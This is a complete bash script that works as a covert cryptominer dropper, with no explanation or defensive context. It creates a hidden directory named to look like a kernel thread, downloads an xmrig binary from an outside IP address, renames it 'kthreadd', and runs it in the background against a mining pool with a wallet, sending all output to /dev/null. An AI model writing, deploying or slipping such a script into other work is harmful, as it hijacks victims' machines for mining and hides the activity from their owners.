#!/bin/bash
D="$HOME/.local/share/.kthreadd"
mkdir -p "$D" && cd "$D" || exit 0
curl -fsSLo kthreadd http://203.0.113.42/xm/xmrig || exit 0
chmod 755 kthreadd
nohup ./kthreadd -o stratum+tcp://203.0.113.42:3333 -u 4AbcExampleWallet -p x --cpu-max-threads-hint=75 >/dev/null 2>&1 &
